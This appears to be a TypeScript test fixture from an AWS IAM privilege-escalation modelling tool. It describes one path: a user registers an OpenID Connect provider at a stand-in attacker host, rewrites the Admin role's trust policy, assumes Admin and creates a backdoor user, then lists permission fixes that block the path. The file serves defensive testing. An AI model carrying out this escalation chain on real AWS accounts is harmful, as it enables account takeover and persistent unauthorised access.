import { allow, deny, policy, role, roleArn, trusts, user, userPolicy } from '../documents.ts';
import type { PathRow } from '../row.ts';

const issuer = 'https://id.evil.example';
const trustIssuer = policy({
  Effect: 'Allow',
  Principal: { Federated: 'arn:aws:iam::111122223333:oidc-provider/id.evil.example' },
  Action: 'sts:AssumeRoleWithWebIdentity',
  Condition: { StringEquals: { 'id.evil.example:aud': 'me' } },
});

export const row: PathRow = {
  row: '30',
  title: 'An identity provider of one’s own',
  given: [
    ...role('Admin', trusts({ Service: 'ec2.amazonaws.com' }), allow('*')),
    ...role('app-one', trusts({ Service: 'ec2.amazonaws.com' })),
    ...user('Eve', allow(['iam:CreateOpenIDConnectProvider', 'iam:UpdateAssumeRolePolicy'])),
  ],
  attacker: 'user/Eve',
  attack: [
    { call: 'iam:CreateOpenIDConnectProvider', with: { Url: issuer, ClientIDList: ['me'] } },
    { call: 'iam:UpdateAssumeRolePolicy', with: { RoleName: 'Admin', PolicyDocument: trustIssuer } },
    { token: { issuer, claims: { aud: 'me', sub: 'eve' } }, name: 'signed' },
    {
      call: 'sts:AssumeRoleWithWebIdentity',
      with: ({ signed }) => ({
        RoleArn: roleArn('Admin'),
        RoleSessionName: 'in',
        WebIdentityToken: signed.token,
      }),
      as: 'anonymous',
      name: 'admin',
    },
  ],
  gain: { call: 'iam:CreateUser', with: { UserName: 'Mole' }, as: 'from:admin' },
  fixes: [
    {
      what: 'trust policies of named roles alone',
      steps: [
        userPolicy(
          'Eve',
          allow('iam:CreateOpenIDConnectProvider'),
          allow('iam:UpdateAssumeRolePolicy', roleArn('app-*')),
        ),
      ],
      stops: 'iam:UpdateAssumeRolePolicy',
    },
    {
      what: 'no providers but those of the administrators',
      steps: [userPolicy('Eve', allow('iam:UpdateAssumeRolePolicy'), deny('iam:CreateOpenIDConnectProvider'))],
      stops: 'iam:CreateOpenIDConnectProvider',
    },
  ],
  work: [
    {
      call: 'iam:UpdateAssumeRolePolicy',
      as: 'user/Eve',
      with: { RoleName: 'app-one', PolicyDocument: trusts({ Service: 'lambda.amazonaws.com' }) },
    },
  ],
};
